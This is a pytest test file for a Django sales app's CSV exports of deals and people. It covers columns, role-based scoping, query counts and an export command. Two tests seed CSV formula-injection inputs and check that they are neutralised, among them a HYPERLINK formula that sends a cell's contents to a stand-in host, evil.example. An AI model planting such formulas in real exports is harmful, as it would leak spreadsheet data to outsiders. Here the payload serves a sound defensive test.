"""CSV exports: the deals of the list (with its filters), people, and the command; each
one shows only what the user may see, in the columns import_csv reads, at a fixed
number of queries."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from accounts.choices import Role
from pipeline.exports import DEAL_COLUMNS, REP_COLUMNS
from tests.factories import (
    CompanyFactory,
    DealFactory,
    LeadFactory,
    LeadSourceFactory,
    ProductFactory,
    UserFactory,
    default_stage,
)

pytestmark = pytest.mark.django_db


def _rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def _header(response) -> list[str]:
    text = b"".join(response.streaming_content).decode()
    return next(csv.reader(io.StringIO(text)))


def test_a_deal_row_holds_every_import_column(client, rep):
    won_at = dt.datetime(2026, 3, 2, 15, 30, tzinfo=dt.UTC)
    lead = LeadFactory(owner=rep, source=LeadSourceFactory(name="Referral"))
    DealFactory(
        name="Acme renewal",
        company=CompanyFactory(name="Acme, Inc."),
        owner=rep,
        lead=lead,
        product=ProductFactory(name="Platform"),
        stage=default_stage("Won"),
        amount=Decimal("1234.5"),
        created_at=dt.datetime(2026, 1, 10, 9, 0, tzinfo=dt.UTC),
        closed_at=won_at,
        expected_close_date=dt.date(2026, 3, 1),
        external_id="CRM-7",
    )
    client.force_login(rep)
    response = client.get(reverse("pipeline:deal-export"))
    assert _header(client.get(reverse("pipeline:deal-export"))) == DEAL_COLUMNS
    [row] = _rows(response)
    assert row == {
        "external_id": "CRM-7",
        "name": "Acme renewal",
        "company": "Acme, Inc.",
        "owner": "rep",
        "stage": "Won",
        "amount": "1234.50",
        "created_at": "2026-01-10T09:00:00+00:00",
        "closed_at": "2026-03-02T15:30:00+00:00",
        "expected_close_date": "2026-03-01",
        "lead_source": "Referral",
        "product": "Platform",
    }


def test_a_deal_made_here_travels_under_a_salesperf_id_and_blanks_stay_blank(client, rep):
    deal = DealFactory(owner=rep, company=None, amount=Decimal("0"))
    client.force_login(rep)
    [row] = _rows(client.get(reverse("pipeline:deal-export")))
    assert row["external_id"] == f"salesperf-{deal.pk}"
    assert (row["company"], row["closed_at"], row["product"], row["lead_source"]) == ("",) * 4
    assert row["amount"] == "0.00"


def test_a_rep_exports_only_their_own_deals_with_the_lists_filters(client, rep, other_rep):
    DealFactory(owner=rep, name="mine open")
    DealFactory(owner=rep, name="mine won", stage=default_stage("Won"))
    DealFactory(owner=other_rep, name="theirs won", stage=default_stage("Won"))
    client.force_login(rep)
    everything = _rows(client.get(reverse("pipeline:deal-export")))
    assert sorted(r["name"] for r in everything) == ["mine open", "mine won"]
    won = _rows(client.get(reverse("pipeline:deal-export"), {"status": "won"}))
    assert [r["name"] for r in won] == ["mine won"]
    # Asking for another owner is not a way round the scope.
    theirs = _rows(client.get(reverse("pipeline:deal-export"), {"owner": other_rep.pk}))
    assert {r["name"] for r in theirs} <= {"mine open", "mine won"}


def test_a_manager_exports_their_tree_and_nothing_of_the_sibling_team(
    client, manager, rep, outsider_rep
):
    DealFactory(owner=rep, name="north")
    DealFactory(owner=outsider_rep, name="south")
    client.force_login(manager)
    assert [r["name"] for r in _rows(client.get(reverse("pipeline:deal-export")))] == ["north"]


def test_anonymous_users_are_sent_to_log_in(client):
    for name in ["pipeline:deal-export", "pipeline:people-export"]:
        response = client.get(reverse(name))
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


def test_people_export_is_for_managers_and_admins(
    client, rep, other_rep, manager, outsider_rep, admin_user, region_manager
):
    client.force_login(rep)
    assert client.get(reverse("pipeline:people-export")).status_code == 403

    client.force_login(manager)
    response = client.get(reverse("pipeline:people-export"))
    assert _header(client.get(reverse("pipeline:people-export"))) == REP_COLUMNS
    rows = _rows(response)
    assert sorted(r["username"] for r in rows) == ["manager", "other_rep", "rep"]
    manager_row = next(r for r in rows if r["username"] == "manager")
    assert (manager_row["role"], manager_row["team"], manager_row["parent_team"]) == (
        "manager",
        "Team North",
        "Region",
    )

    client.force_login(admin_user)
    usernames = {r["username"] for r in _rows(client.get(reverse("pipeline:people-export")))}
    # Admins are not part of the reps format.
    assert usernames == {"rep", "other_rep", "manager", "outsider_rep", "region_manager"}


@pytest.mark.parametrize("deals", [2, 40])
def test_deal_export_costs_the_same_queries_whatever_the_size(
    client, rep, deals, django_assert_max_num_queries
):
    for index in range(deals):
        stage = default_stage("Won" if index % 2 else "Proposal")
        DealFactory(owner=rep, stage=stage, lead=LeadFactory(owner=rep))
    client.force_login(rep)
    with django_assert_max_num_queries(6):
        rows = _rows(client.get(reverse("pipeline:deal-export")))
    assert len(rows) == deals


def test_export_csv_command_writes_every_deal_and_person(tmp_path, rep, manager, outsider_rep):
    DealFactory(owner=rep, name="one")
    DealFactory(owner=outsider_rep, name="two")
    UserFactory(username="root", role=Role.ADMIN, team=None)
    call_command("export_csv", "deals", str(tmp_path / "deals.csv"))
    call_command("export_csv", "reps", str(tmp_path / "reps.csv"))
    with (tmp_path / "deals.csv").open(newline="") as handle:
        assert sorted(r["name"] for r in csv.DictReader(handle)) == ["one", "two"]
    with (tmp_path / "reps.csv").open(newline="") as handle:
        assert sorted(r["username"] for r in csv.DictReader(handle)) == [
            "manager",
            "outsider_rep",
            "rep",
        ]


def test_a_formula_in_a_deal_or_company_name_is_written_as_text(client, rep):
    DealFactory(
        owner=rep,
        name='=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        company=CompanyFactory(name="@SUM(1+1)"),
        amount=Decimal("5.00"),
    )
    client.force_login(rep)
    [row] = _rows(client.get(reverse("pipeline:deal-export")))
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
    assert row["company"] == "'@SUM(1+1)"
    assert row["amount"] == "5.00"  # numbers stay numbers


def test_people_export_neutralises_names_too(client, manager, team):
    UserFactory(username="plus", first_name="+cmd", last_name="x", team=team, role=Role.REP)
    client.force_login(manager)
    rows = {r["username"]: r for r in _rows(client.get(reverse("pipeline:people-export")))}
    assert rows["plus"]["full_name"] == "'+cmd x"
